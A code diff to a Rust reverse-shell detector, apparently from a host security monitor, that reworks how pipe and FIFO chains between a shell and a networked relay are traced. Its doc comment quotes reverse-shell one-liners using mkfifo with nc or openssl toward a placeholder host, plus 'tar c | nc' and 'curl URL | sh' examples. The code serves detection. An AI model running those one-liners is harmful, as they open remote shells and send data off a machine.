@@ -1,6 +1,6 @@
 //! A shell and a program with a connection that read each other's output, as in
-//! `mkfifo f; sh -i < f 2>&1 | openssl s_client -connect HOST:PORT > f`. At most one
-//! program such as `cat` may stand between.
+//! `mkfifo f; cat f | sh -i 2>&1 | nc HOST PORT > f`. At most one program such as `cat`
+//! may stand between.
 //!
 //! Output that only goes out, or input that only comes in, is no circle: neither
 //! `tar c | nc HOST PORT` nor `curl URL | sh` is reported here.
@@ -9,17 +9,17 @@ use std::sync::Arc;
 
 use sentinel_event::{Event, Process, Severity};
 
-use super::pipes::{input, output};
+use super::pipes::input;
 use super::{ReverseShell, TECHNIQUES, is_commanded, named};
 use crate::connections::{Spoken, is_local};
 use crate::grade::milder;
 use crate::{Finding, words};
 
-/// Judges a shell that is started when the circle is otherwise closed.
-pub fn judge_exec(detection: &ReverseShell, event: &Event) -> Option<Finding> {
-    let mut members = around(detection, &event.process);
+/// Judges whether the process at hand, which was started, connected or opened a FIFO,
+/// has closed a circle.
+pub fn judge(detection: &ReverseShell, event: &Event) -> Option<Finding> {
+    let mut members = behind(detection, &event.process);
     members.push(event.process.clone());
-    // The shell, the relay, or the program between them may come last.
     members
         .iter()
         .filter(|process| is_commanded(process))
@@ -29,17 +29,14 @@ pub fn judge_exec(detection: &ReverseShell, event: &Event) -> Option<Finding> {
         })
 }
 
-/// Judges a connection by a program that may already be part of a circle.
-pub fn judge_connection(detection: &ReverseShell, event: &Event) -> Option<Finding> {
-    input(&event.process)?;
-    judge_exec(detection, event)
-}
-
 /// The processes up to two pipes behind the output of `process`.
-fn around(detection: &ReverseShell, process: &Process) -> Vec<Arc<Process>> {
-    let next = |process: &Process| match output(process) {
-        Some(pipe) => detection.pipes.readers(pipe).to_vec(),
-        None => Vec::new(),
+fn behind(detection: &ReverseShell, process: &Process) -> Vec<Arc<Process>> {
+    let pipes = &detection.pipes;
+    let next = |process: &Process| -> Vec<Arc<Process>> {
+        let outputs = pipes.outputs(process).into_iter();
+        outputs
+            .flat_map(|pipe| pipes.readers(pipe).iter().cloned())
+            .collect()
     };
     let mut members = next(process);
     let second: Vec<_> = members.iter().flat_map(|member| next(member)).collect();
@@ -50,15 +47,22 @@ fn around(detection: &ReverseShell, process: &Process) -> Vec<Arc<Process>> {
 /// The program with a connection that writes what `shell` reads, itself or through one
 /// other, and reads what `shell` writes.
 fn relay_of(detection: &ReverseShell, shell: &Process) -> Option<(Arc<Process>, Arc<Spoken>)> {
-    let (commands, answers) = (input(shell)?, output(shell)?);
-    let writers = |pipe: u64| detection.pipes.writers(pipe).iter();
-    let direct = writers(commands);
-    let through_one = writers(commands)
-        .filter_map(|between| input(between))
-        .flat_map(writers);
+    let pipes = &detection.pipes;
+    let answers = pipes.outputs(shell);
+    let direct = pipes.writers(input(shell)?).iter();
+    let through_one = direct
+        .clone()
+        .flat_map(|between| pipes.inputs(between))
+        .flat_map(|pipe| pipes.writers(pipe));
     direct
         .chain(through_one)
-        .filter(|relay| relay.pid != shell.pid && input(relay) == Some(answers))
+        .filter(|relay| relay.pid != shell.pid)
+        .filter(|relay| {
+            pipes
+                .inputs(relay)
+                .iter()
+                .any(|pipe| answers.contains(pipe))
+        })
         .find_map(|relay| {
             let spoken = detection.connections.of(relay)?;
             Some((relay.clone(), spoken.clone()))
